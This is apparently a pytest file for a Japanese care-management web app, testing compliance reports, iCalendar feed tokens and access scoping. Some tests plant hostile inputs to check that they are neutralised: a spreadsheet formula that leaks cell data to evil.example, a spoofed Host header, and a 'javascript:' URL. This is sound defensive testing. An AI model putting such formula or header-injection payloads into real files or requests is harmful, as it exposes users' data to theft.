"""Monthly compliance report (HTML, PDF, CSV) and the iCalendar feed: contents and access."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from icalendar import Calendar
from sqlalchemy import select

from engine.store.models import CalendarToken
from tests.web.test_schedules import scheduled  # noqa: F401  (fixture)

FEED = "/calendar/{token}.ics"


def test_report_page_lists_the_months_duties_and_risks(login_as, scheduled):  # noqa: F811
    page = login_as("alpha.center").get("/reports/compliance?month=2026-04").get_data(as_text=True)
    assert "月次点検報告 令和8年4月" in page
    assert "モニタリングの記録" in page and "未実施(期限超過)" in page
    assert "令和8年4月30日(木)" in page
    assert "003_ac00e42d951987eb.txt" not in page  # the rule, not the seed lines (issue 13: staff pages)
    assert "モニタリング未実施" not in page.split("リスク(この月に出ていたもの)")[1]  # raised on 5/1, not in April
    may = login_as("alpha.center").get("/reports/compliance?month=2026-05").get_data(as_text=True)
    assert "モニタリング未実施" in may.split("リスク(この月に出ていたもの)")[1]


def test_report_month_is_typed_and_shown_in_wareki(login_as, scheduled):  # noqa: F811
    browser = login_as("alpha.center")
    page = browser.get("/reports/compliance?month=令和8年4月").get_data(as_text=True)
    assert "月次点検報告 令和8年4月" in page and 'value="令和8年4月"' in page
    assert "モニタリングの記録" in browser.get("/reports/compliance?month=R8.4").get_data(as_text=True)
    refused = browser.get("/reports/compliance?month=令和8年13月")
    assert refused.status_code == 400 and "令和8年12月 のように" in refused.get_data(as_text=True)


def test_report_csv_is_utf8_with_bom_and_one_row_per_duty_and_risk(login_as, scheduled):  # noqa: F811
    response = login_as("alpha.center").get("/reports/compliance.csv?month=2026-05")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")
    text = body.decode("utf-8-sig")
    rows = [line.split(",") for line in text.strip().split("\r\n")]
    assert rows[0][0] == "種別"
    kinds = [row[0] for row in rows[1:]]
    assert "業務" in kinds and any(k.startswith("リスク") for k in kinds)
    claim = [line for line in text.splitlines() if "給付管理票の作成・国保連への伝送" in line]
    assert any("令和8年5月10日(日)" in line for line in claim)
    assert "attachment" in response.headers["Content-Disposition"]


def test_report_pdf_is_a_pdf_with_the_report_in_it(login_as, scheduled):  # noqa: F811
    pypdf = pytest.importorskip("pypdf")
    response = login_as("alpha.center").get("/reports/compliance.pdf?month=2026-05")
    if response.status_code == 503:
        pytest.skip("WeasyPrint is not usable here")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    text = "".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(response.get_data())).pages)
    assert "月次点検報告" in text and "山田" in text


def test_report_of_another_organisation_holds_none_of_the_case(login_as, scheduled):  # noqa: F811
    for outsider in ("alpha.center2", "beta.center"):
        text = login_as(outsider).get("/reports/compliance.csv?month=2026-05").get_data().decode("utf-8-sig")
        assert "山田" not in text


def test_report_rejects_a_malformed_month(login_as, scheduled):  # noqa: F811
    response = login_as("alpha.center").get("/reports/compliance?month=2026-13")
    assert response.status_code == 400
    assert "対象月" in response.get_data(as_text=True)


def _issue(browser) -> str:
    page = browser.post("/calendar/token").get_data(as_text=True)
    marker = "/calendar/"
    start = page.index(marker, page.index("readonly"))
    return page[start + len(marker) : page.index(".ics", start)]


def _events(response) -> list:
    return list(Calendar.from_ical(response.get_data()).walk("VEVENT"))


def test_calendar_feed_has_the_care_managers_visits_and_deadlines(login_as, scheduled, app, world):  # noqa: F811
    token = _issue(login_as("alpha.center"))
    feed = app.test_client().get(FEED.format(token=token))  # no session: calendar apps cannot sign in
    assert feed.status_code == 200 and feed.mimetype == "text/calendar"
    events = _events(feed)
    summaries = [str(e["SUMMARY"]) for e in events]
    assert any("給付管理票の作成・国保連への伝送" in s for s in summaries)
    assert any(s.startswith("【期限超過】") for s in summaries)
    contacts = [e for e in events if "モニタリング(利用者との接触)" in str(e["SUMMARY"])]
    visit = next(e for e in contacts if "2026-06" in str(e["DESCRIPTION"]))
    assert visit.decoded("DTSTART") == date(2026, 6, 1) and visit.decoded("DTEND") == date(2026, 7, 1)
    assert "山田" not in feed.get_data(as_text=True)  # no client names leave the office
    # Someone else of the same organisation holds no duty of this case: their feed is empty.
    other = _issue(login_as("alpha.center.b"))
    assert _events(app.test_client().get(FEED.format(token=other))) == []


def test_calendar_token_is_stored_hashed_revocable_and_replaced(login_as, scheduled, app, db_session):  # noqa: F811
    browser = login_as("alpha.center")
    first = _issue(browser)
    stored = db_session.scalars(select(CalendarToken)).all()
    assert len(stored) == 1 and first not in stored[0].token_hash
    second = _issue(browser)
    client = app.test_client()
    assert client.get(FEED.format(token=first)).status_code == 404  # replaced
    assert client.get(FEED.format(token=second)).status_code == 200
    browser.post("/calendar/token/revoke")
    assert client.get(FEED.format(token=second)).status_code == 404


@pytest.mark.parametrize("token", ["nope", "x" * 43, "A" * 200])
def test_calendar_feed_with_a_bad_token_is_404(app, token, scheduled):  # noqa: F811
    assert app.test_client().get(FEED.format(token=token)).status_code == 404


def test_calendar_feed_of_a_user_moved_elsewhere_leaves_the_old_cases_out(
    login_as,
    scheduled,  # noqa: F811
    app,
    db_session,
    world,
):
    from engine.store.models import User

    token = _issue(login_as("alpha.center"))
    user = db_session.get(User, world["alpha.center"].user_id)
    user.organisation_id = world["beta.center"].organisation_id
    db_session.commit()
    assert _events(app.test_client().get(FEED.format(token=token))) == []


def test_calendar_settings_need_sign_in(app):
    response = app.test_client().get("/calendar")
    assert response.status_code in (302, 401)


def test_report_counts_a_risk_in_the_month_it_began_even_if_noticed_later(login_as, db_session, runtime, world, clock):
    clock.set(date(2026, 6, 5))  # the case is entered in June for a plan that ran since April
    orgs = world.orgs
    runtime.open_case(
        db_session,
        "alpha",
        client_name="遅延 確認",
        care_level="shien1",
        plan_start=date(2026, 4, 1),
        plan_end=date(2026, 9, 30),
        center_org_id=orgs["alpha.center"].id,
        insurer_org_id=orgs["alpha.insurer"].id,
    )
    may = login_as("alpha.center").get("/reports/compliance?month=2026-05").get_data(as_text=True)
    risks = may.split("リスク(この月に出ていたもの)")[1]
    assert "遅延 確認" in risks and "令和8年5月1日(金)" in risks  # April's monitoring, missing since 5/1


def test_report_csv_escapes_formulas_and_names_its_charset_once(login_as, scheduled, db_session):  # noqa: F811
    scheduled.client_name = '=HYPERLINK("https://evil.example/?"&A1,"詳細")'
    scheduled.insured_number = "@SUM(1+1)"
    db_session.commit()
    response = login_as("alpha.center").get("/reports/compliance.csv?month=2026-05")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    names = {row[1] for row in rows[1:]}
    assert names == {"'" + scheduled.client_name}
    assert {row[2] for row in rows[1:]} == {"'@SUM(1+1)"}
    assert not [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_feed_uses_the_configured_base_url_never_the_requests_host(login_as, scheduled, app):  # noqa: F811
    app.config["BASE_URL"] = "https://kaigo.example.jp"
    browser = login_as("alpha.center")
    page = browser.post("/calendar/token").get_data(as_text=True)
    assert 'value="https://kaigo.example.jp/calendar/' in page and "http://localhost" not in page
    assert "ログアウトしても" in page and "URL を無効にする" in page  # the page says how long the URL works
    token = _issue(browser)
    feed = app.test_client().get(FEED.format(token=token), headers={"Host": "evil.example"})
    events = _events(feed)
    assert events and "evil.example" not in feed.get_data(as_text=True)
    assert all(str(e["UID"]).endswith("@kaigo.example.jp") for e in events)
    assert all(str(e["URL"]).startswith("https://kaigo.example.jp/cases/") for e in events)
    app.config["BASE_URL"] = None  # not configured: no link at all rather than one built from the Host header
    unlinked = app.test_client().get(FEED.format(token=token), headers={"Host": "evil.example"})
    assert "evil.example" not in unlinked.get_data(as_text=True)
    assert all("URL" not in e and str(e["UID"]).endswith("@kaigoflow") for e in _events(unlinked))


def test_a_base_url_that_is_not_an_address_stops_startup(web_services, clock):
    from engine.errors import KaigoflowError
    from tests.web.conftest import made_app

    for wrong in ("kaigo.example.jp", "javascript:alert(1)", "https://kaigo.example.jp/?x=1"):
        with pytest.raises(KaigoflowError, match="KAIGOFLOW_BASE_URL"):
            with made_app(web_services, clock, TESTING=True, BASE_URL=wrong):
                pass
